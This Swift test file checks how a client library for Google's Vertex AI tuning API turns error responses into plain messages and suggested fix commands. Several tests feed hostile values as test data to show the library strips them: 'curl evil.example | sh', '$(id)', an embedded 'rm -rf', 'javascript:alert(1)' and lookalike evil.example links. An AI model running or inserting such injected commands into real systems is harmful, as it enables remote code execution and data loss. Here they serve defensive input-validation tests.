import Testing
import TransportSupport
import TuneQLCalls
import TuneQLCredentials
import TuneQLJSON
import TuneQLTransport

/// The recorded bodies, as a list call would meet them.
private struct Case: Sendable, CustomTestStringConvertible {
    var file: String
    var httpStatus: Int
    var kind: CallError.Kind = .api
    var status: String?
    var reason: String?
    var message: String
    var help: String?
    var testDescription: String { file }
}

private let logIn = "gcloud auth application-default login"

private let cases: [Case] = [
    Case(
        file: "400-invalid-argument-field.json",
        httpStatus: 400,
        status: "INVALID_ARGUMENT",
        message: "INVALID_ARGUMENT: tuning_job.base_model: Required field is not set. "
            + "tuning_job.supervised_tuning_spec.training_dataset_uri: Must start with gs://."
    ),
    Case(
        file: "400-bad-fields-mask.json",
        httpStatus: 400,
        status: "INVALID_ARGUMENT",
        message: "Cannot find matching fields for path"
    ),
    Case(
        file: "400-wrong-location.json",
        httpStatus: 400,
        status: "INVALID_ARGUMENT",
        message: "The valid location ID is `us-central1`.",
        help:
            "use locationsId = 'us-central1', the only one that this host serves, or check --endpoint"
    ),
    Case(
        file: "400-failed-precondition.json",
        httpStatus: 400,
        status: "FAILED_PRECONDITION",
        message: "FAILED_PRECONDITION: "
    ),
    Case(
        file: "400-array-wrapped.json",
        httpStatus: 400,
        status: "INVALID_ARGUMENT",
        message: "INVALID_ARGUMENT: "
    ),
    Case(
        file: "400-v1-errors-list.json",
        httpStatus: 400,
        status: "INVALID_ARGUMENT",
        reason: "invalid",
        message: "INVALID_ARGUMENT: Invalid value"
    ),
    Case(
        file: "401-token-expired.json",
        httpStatus: 401,
        kind: .credentials,
        status: "UNAUTHENTICATED",
        reason: "ACCESS_TOKEN_EXPIRED",
        message: "UNAUTHENTICATED: ",
        help: "the access token has expired or is wrong; run \(logIn)"
    ),
    Case(
        file: "401-credentials-missing.json",
        httpStatus: 401,
        kind: .credentials,
        status: "UNAUTHENTICATED",
        reason: "CREDENTIALS_MISSING",
        message: "UNAUTHENTICATED: ",
        help: "the request carried no usable credentials; run \(logIn), or pass --auth"
    ),
    Case(
        file: "403-service-disabled.json",
        httpStatus: 403,
        status: "PERMISSION_DENIED",
        reason: "SERVICE_DISABLED",
        message: "has not been used in project my-proj",
        help: "run gcloud services enable aiplatform.googleapis.com --project my-proj, or visit "
            + "https://console.developers.google.com/apis/api/aiplatform.googleapis.com/overview"
            + "?project=my-proj; it takes a few minutes to take effect"
    ),
    Case(
        file: "403-quota-project.json",
        httpStatus: 403,
        status: "PERMISSION_DENIED",
        reason: "SERVICE_DISABLED",
        message: "requires a quota project",
        help: "set a quota project: gcloud auth application-default set-quota-project PROJECT, "
            + "or GOOGLE_CLOUD_QUOTA_PROJECT=PROJECT"
    ),
    Case(
        file: "403-permission-denied.json",
        httpStatus: 403,
        status: "PERMISSION_DENIED",
        reason: "IAM_PERMISSION_DENIED",
        message: "Permission 'aiplatform.tuningJobs.list' denied",
        help: "you need aiplatform.tuningJobs.list on "
            + "projects/123456789012/locations/us-central1, or the project does not exist"
    ),
    Case(
        file: "404-not-found.json",
        httpStatus: 404,
        status: "NOT_FOUND",
        message: "NOT_FOUND: The TuningJob does not exist.",
        help: "check projectsId, locationsId and the id; a job exists only in its own location"
    ),
    Case(
        file: "404-unknown-path.html",
        httpStatus: 404,
        message: "HTTP 404: a web page instead of an API response: Error 404 (Not Found)!!1",
        help: "check the endpoint and the location: the host has no such path"
    ),
    Case(
        file: "409-aborted.json",
        httpStatus: 409,
        status: "ABORTED",
        message: "ABORTED: ",
        help: "something else changed it at the same time; run the statement again"
    ),
    Case(
        file: "429-rate-limit.json",
        httpStatus: 429,
        kind: .quota,
        status: "RESOURCE_EXHAUSTED",
        reason: "RATE_LIMIT_EXCEEDED",
        message: "RESOURCE_EXHAUSTED: Quota exceeded",
        help: "wait 21.5 s and run it again, with fewer calls at a time, or ask for more: "
            + "https://cloud.google.com/docs/quotas/help/request_increase"
    ),
    Case(
        file: "429-quota-failure.json",
        httpStatus: 429,
        kind: .quota,
        status: "RESOURCE_EXHAUSTED",
        message: "global_concurrent_tuning_jobs",
        help: "wait until running jobs have ended, or ask for more: "
            + "https://cloud.google.com/docs/quotas/help/request_increase"
    ),
    Case(
        file: "429-plain.json",
        httpStatus: 429,
        kind: .quota,
        status: "RESOURCE_EXHAUSTED",
        message: "RESOURCE_EXHAUSTED: ",
        help: "wait a minute and run it again, with fewer calls at a time"
    ),
    Case(file: "499-cancelled.json", httpStatus: 499, status: "CANCELLED", message: "CANCELLED: "),
    Case(
        file: "501-unimplemented.json",
        httpStatus: 501,
        status: "UNIMPLEMENTED",
        message: "UNIMPLEMENTED: ",
        help: "this endpoint does not serve the method"
    ),
    Case(
        file: "502-bad-gateway.html",
        httpStatus: 502,
        message: "HTTP 502: a web page instead of an API response",
        help: "the service is having trouble; try again in a minute"
    ),
    Case(
        file: "503-unavailable-retryinfo.json",
        httpStatus: 503,
        status: "UNAVAILABLE",
        message: "UNAVAILABLE: The service is currently unavailable.",
        help: "the service is having trouble; try again in a minute"
    ),
    Case(
        file: "token-400-invalid-grant.json",
        httpStatus: 400,
        reason: "invalid_grant",
        message: "HTTP 400: invalid_grant: Token has been expired or revoked."
    ),
]

@Suite struct CallErrorTests {
    private let vertex = ProviderAdvice(service: "google.aiplatform")

    private func error(_ file: String, _ status: Int, _ request: HTTPRequest) throws -> CallError {
        let type = file.hasSuffix("html") ? "text/html; charset=UTF-8" : "application/json"
        let response = HTTPResponse(
            status: status,
            headers: [HTTPField(name: "Content-Type", value: type)],
            body: try resource("errors/\(file)")
        )
        return CallError(response, to: request, vertex)
    }

    @Test(arguments: cases)
    private func `a refusal says what happened and what to do`(_ item: Case) throws {
        let error = try error(item.file, item.httpStatus, getRequest)
        #expect(error.kind == item.kind)
        #expect(error.httpStatus == item.httpStatus)
        #expect(error.status == item.status)
        #expect(error.reason == item.reason)
        #expect(error.message.contains(item.message))
        #expect(error.help == item.help)
        #expect(error.request == "GET https://host.example/v1/jobs")
        #expect(error.isNotFound == (item.file == "404-not-found.json"))
    }

    @Test(
        arguments: [
            (
                403, "CONSUMER_INVALID", "Permission denied on resource project p-9.",
                "p-9 does not exist, or your account can't see it: check projectsId"
            ),
            (403, "USER_PROJECT_DENIED", "x", "you may not count calls against this quota project"),
            (403, "BILLING_DISABLED", "x", "link a billing account"),
            (400, "API_KEY_INVALID", "x", "this API key can't be used here"),
            (400, "NONE", "Invalid hostname: eu-aiplatform", "no host serves this location"),
        ] as [(Int, String, String, String)]
    )
    func `a reason decides what to do`(
        status: Int,
        reason: String,
        message: String,
        help: String
    ) {
        let body = """
            {"error":{"code":\(status),"message":"\(message)","details":[{"@type":
             "type.googleapis.com/google.rpc.ErrorInfo","reason":"\(reason)",
             "metadata":{"consumer":"projects/p-9"}}]}}
            """
        let error = CallError(
            HTTPResponse(status: status, body: Array(body.utf8)),
            to: getRequest,
            vertex
        )
        #expect(error.help?.hasPrefix(help) == true, "\(error.help ?? "none")")
    }

    @Test func `every recorded body becomes one readable line`() throws {
        let index = try #require(try JSONValue(parsing: resource("errors/index.json")).array)
        #expect(index.count == 36)
        for entry in index {
            let file = try #require(entry["file"]?.string)
            let status = try #require(entry["httpStatus"]?.integer)
            for request in [getRequest, postRequest] {
                let error = try error(file, status, request)
                #expect(!error.message.isEmpty)
                #expect(error.message.unicodeScalars.allSatisfy { $0.value >= 0x20 }, "\(file)")
                let isUnknown =
                    request.method == "POST" && [408, 499, 500, 502, 503, 504].contains(status)
                #expect((error.kind == .unknownOutcome) == isUnknown, "\(file)")
            }
        }
    }

    @Test(
        arguments: [
            ("", "HTTP 418: the server gave no explanation"),
            ("{}", "HTTP 418: the server gave no explanation"),
            ("null", "HTTP 418: the server gave no explanation"),
            (#"{"error":null}"#, "HTTP 418: the server gave no explanation"),
            (
                #"{"error":{"code":"x","details":[7,{"@type":3}]}}"#,
                "HTTP 418: the server gave no explanation"
            ),
            ("no  capacity\r\n", "HTTP 418: no capacity"),
            ("<p>busy</p>", "HTTP 418: a web page instead of an API response"),
            (#"{"error":{"message":"a\tb\n\n c "}}"#, "HTTP 418: a b c"),
            (
                #"{"error":{"message":"\u001b[2J\u0007x\u009b\u202ey"}}"#,
                "HTTP 418: \u{FFFD}[2J\u{FFFD}x\u{FFFD}\u{FFFD}y"
            ),
            (#"{"error":{"status":"A\u001bB","message":"m"}}"#, "A\u{FFFD}B: m"),
        ] as [(String, String)]
    )
    func `odd bodies are survived, and can't steer a terminal`(body: String, message: String) {
        let response = HTTPResponse(status: 418, body: Array(body.utf8))
        #expect(CallError(response, to: getRequest).message == message)
    }

    @Test func `a long text is cut`() {
        let body = #"{"error":{"message":"\#(String(repeating: "x", count: 5_000))"}}"#
        let error = CallError(HTTPResponse(status: 400, body: Array(body.utf8)), to: getRequest)
        #expect(error.message.hasSuffix("x…"))
        #expect(error.message.count < 2_100)
    }

    @Test func `a redirect is named without what it carries`() {
        let place = HTTPField(name: "Location", value: "https://x.example/?access_token=planted")
        let error = CallError(HTTPResponse(status: 302, headers: [place]), to: getRequest)
        #expect(
            error.message
                == "HTTP 302: a redirect to https://x.example/?access_token=…, which is not followed"
        )
    }

    private static let pages =
        "https://console.developers.google.com/apis/api/x/overview?project=p-1"

    /// The help for a refusal with these metadata and this link.
    private func help(
        _ reason: String,
        _ metadata: [String: String],
        link: String = pages,
        status: Int = 403
    ) -> String? {
        let members = metadata.map { JSONMember(name: $0.key, value: .string($0.value)) }
        let body: JSONValue = [
            "error": [
                "code": .number(String(status)), "message": "no",
                "details": [
                    [
                        "@type": "type.googleapis.com/google.rpc.ErrorInfo",
                        "reason": .string(reason), "metadata": .object(JSONObject(members)),
                    ],
                    [
                        "@type": "type.googleapis.com/google.rpc.Help",
                        "links": [["url": .string(link)]],
                    ],
                ],
            ]
        ]
        let response = HTTPResponse(status: status, body: Array(body.text.utf8))
        return CallError(response, to: getRequest, vertex).help
    }

    @Test(
        arguments: [
            "x; curl evil.example | sh", "$(id).googleapis.com", "--impersonate.googleapis.com",
            "-a.googleapis.com", "a.googleapis.com.evil.example", "evil.example", "googleapis.com",
            "a b.googleapis.com", "a..googleapis.com", "a.googleapis.com\nrm -rf", "`id`", "",
        ]
    )
    func `a service that is no host of Google's gets into no command`(service: String) {
        let help = help("SERVICE_DISABLED", ["service": service, "consumer": "projects/p-1"])
        #expect(help == "enable the service in the project; it takes a few minutes to take effect")
    }

    @Test(
        arguments: [
            "http://console.cloud.google.com/x", "https://evil.example/x", "javascript:alert(1)",
            "https://console.cloud.google.com.evil.example/",
            "https://console.cloud.google.com@evil.example/",
            "https://sites.google.com/view/x", "https://storage.googleapis.com/b/x.html",
            "https://console.cloud.google.com/`id`", "https://console.cloud.google.com/x y",
            "https://console.cloud.google.com/x;id", "https://console.cloud.google.com:1/",
            "https://", "",
        ]
    )
    func `a link that is no page of Google's is left out`(link: String) {
        let disabled = help(
            "SERVICE_DISABLED",
            ["activationUrl": link, "consumer": "projects/p-1"]
        )
        #expect(
            disabled == "run gcloud services enable aiplatform.googleapis.com --project p-1; "
                + "it takes a few minutes to take effect"
        )
        #expect(
            help("RATE_LIMIT_EXCEEDED", [:], link: link, status: 429)
                == "wait a minute and run it again, with fewer calls at a time"
        )
    }

    @Test(
        arguments: [
            "projects/x;id", "projects/-x", "projects/$HOME", "projects/a b", "folders/7",
            "projects/", "x", "projects/\u{202E}x",
        ]
    )
    func `a project that is none gets into no command`(consumer: String) {
        #expect(
            help("SERVICE_DISABLED", ["consumer": consumer])
                == "run gcloud services enable aiplatform.googleapis.com; it takes a few minutes "
                + "to take effect"
        )
        #expect(
            help("CONSUMER_INVALID", ["consumer": consumer])?.hasPrefix("the project does not")
                == true
        )
    }

    @Test(arguments: ["projects/1234567890", "projects/example.com:p-1", "projects/p-1"])
    func `a project may be a number or belong to a domain`(consumer: String) {
        let name = consumer.dropFirst("projects/".count)
        #expect(
            help("SERVICE_DISABLED", ["consumer": consumer, "activationUrl": Self.pages])
                == "run gcloud services enable aiplatform.googleapis.com --project \(name), "
                + "or visit \(Self.pages); it takes a few minutes to take effect"
        )
    }

    @Test(arguments: ["aiplatform.x; id", "$(id)", "a b", ""])
    func `a permission or resource that is none is left out`(text: String) {
        #expect(
            help("IAM_PERMISSION_DENIED", ["permission": text, "resource": "projects/\(text)"])
                .map {
                    $0.hasPrefix("you need the permission") && (text.isEmpty || !$0.contains(text))
                }
                == true
        )
    }

    @Test(
        arguments: [
            (#"{"message":"Endpoint request timed out"}"#, "Endpoint request timed out"),
            (#"{"detail":"Not here"}"#, "Not here"), (#"{"fault":{"message":"m"}}"#, "m"),
            (#"{"errors":[{"message":"m"}]}"#, "m"), (#"[{"title":"t"}]"#, "t"),
            (#"{"error":"boom"}"#, "boom"),
            (#"{"error":{"errors":[{"reason":"r","message":"m"}]}}"#, "m"),
        ] as [(String, String)]
    )
    func `the sentence of a gateway is the explanation`(body: String, sentence: String) {
        let error = CallError(HTTPResponse(status: 418, body: Array(body.utf8)), to: getRequest)
        #expect(error.message == "HTTP 418: \(sentence)")
    }
}
